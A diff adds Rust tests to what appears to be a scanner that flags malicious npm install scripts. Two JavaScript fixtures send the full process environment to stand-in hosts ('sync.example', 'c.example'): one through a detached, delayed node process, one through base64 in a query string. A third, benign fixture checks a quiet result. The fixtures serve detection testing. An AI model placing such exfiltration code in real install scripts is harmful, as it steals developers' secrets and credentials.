@@ -921,3 +921,54 @@ fn inline_node_code_of_a_postinstall_sending_the_environment_is_critical() {
         Some(Severity::Critical)
     );
 }
+
+// Code a file hands to a node it starts (`spawn(process.execPath, ['-e', CODE])`), walked
+// as the file's own.
+
+#[test]
+fn a_detached_node_given_code_that_sends_the_environment_is_the_install_scripts_doing() {
+    let install = r#"const { spawn } = require('child_process');
+const payload = "setTimeout(() => { const r = require('https').request({ host: 'sync.example', method: 'POST' }); r.end(JSON.stringify(process.env)); }, 3000)";
+spawn(process.execPath, ['-e', payload], { detached: true, stdio: 'ignore' }).unref();
+"#;
+    let fixture = hooked("node install.js", &[("install.js", install)]);
+    let findings = fixture.code_findings("DSCA801");
+    assert_eq!(
+        severity_of(&findings),
+        Some(Severity::Critical),
+        "{findings:#?}"
+    );
+    // Found on the line that starts the process.
+    assert!(
+        findings[0]
+            .evidence
+            .iter()
+            .any(|e| e.location.as_ref().and_then(|l| l.line) == Some(3)),
+        "{findings:#?}"
+    );
+}
+
+#[test]
+fn exec_of_a_node_command_line_with_inline_code_is_walked_too() {
+    let install = r#"require('child_process').execSync(`node -e "require('https').get('https://c.example/x?d=' + Buffer.from(JSON.stringify(process.env)).toString('base64'))"`);
+"#;
+    let fixture = hooked("node install.js", &[("install.js", install)]);
+    assert_eq!(
+        severity_of(&fixture.code_findings("DSCA801")),
+        Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn a_node_started_to_print_a_build_path_is_quiet() {
+    let install = r#"const { execFileSync } = require('child_process');
+const include = execFileSync(process.execPath, ['-p', "require('node-addon-api').include"], { encoding: 'utf8' }).trim();
+require('fs').writeFileSync('build/include.txt', include);
+"#;
+    let fixture = hooked("node install.js", &[("install.js", install)]);
+    assert!(
+        highest(&fixture) <= Some(Severity::Low),
+        "{:#?}",
+        fixture.analyse_code().findings
+    );
+}
